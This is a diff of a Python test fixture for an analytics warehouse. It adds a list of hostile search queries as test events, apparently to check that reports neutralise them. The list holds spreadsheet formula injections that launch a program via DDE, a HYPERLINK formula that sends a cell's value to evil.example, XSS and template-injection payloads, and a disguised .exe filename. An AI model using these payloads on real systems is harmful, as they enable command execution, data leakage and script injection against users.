@@ -1,6 +1,7 @@
-"""A warehouse as all stages leave it: five weeks of simulated events through ingest and dbt, models and incidents by hand."""
+"""A warehouse as all stages leave it: simulated events through ingest and dbt, and predictions by hand."""
 
-from collections.abc import Callable
+import json
+from collections.abc import Callable, Iterator
 from datetime import UTC, date, datetime, timedelta
 from zoneinfo import ZoneInfo
 
@@ -30,12 +31,46 @@ def published(begin_with, warehouse, dbt, tmp_path) -> psycopg.Connection:
         yield connection
 
 
+# What came in through the properties of events in other people's products: formulas, markup, templates, terminals.
+HOSTILE = [
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    '"><svg/onload=alert(1)>',
+    "{{7*7}}${7*7}#{7*7}<%= 7*7 %>",
+    '#import "@preview/evil:1.0.0": *',
+    "$x$ `a` *b* _c_ \\ <b>&amp;</b>",
+    "\u202egnp.exe",
+    "\x1b[31mred\x07",
+    "x" * 300,
+]
+
+
+def _hostile_events() -> Iterator[dict]:
+    """Three searches without result for each: a gap in the content, which its report names."""
+    for number, words in enumerate(HOSTILE):
+        for repeat in range(3):
+            yield {
+                "event_id": f"hostile-{number}-{repeat}",
+                "event_type": "content_searched",
+                "occurred_at": at(LAST, 9 + repeat).isoformat(),
+                "user_id": "u-hostile",
+                "session_id": f"s-{number}",
+                "properties": {"query": words, "results_count": 0},
+            }
+
+
 def _fill(dbt, folder) -> None:
     simulate(folder / "sample", start=date(2026, 2, 2), days=36, events=6_000, incidents=False)
     for path in sorted((folder / "sample").glob("*.jsonl")):
         path.write_text(path.read_text().replace('"skill":', '"class_id": "7b", "skill":'))
     with database.connect() as connection:
         database.sync_tenant(connection)
+    (folder / "sample" / "hostile.jsonl").write_text("".join(json.dumps(event) + "\n" for event in _hostile_events()))
     loader.ingest("native", sorted((folder / "sample").glob("*.jsonl")))
     with database.connect() as connection:
         (newest,) = connection.execute("select max(load_id) from raw.loads").fetchone()
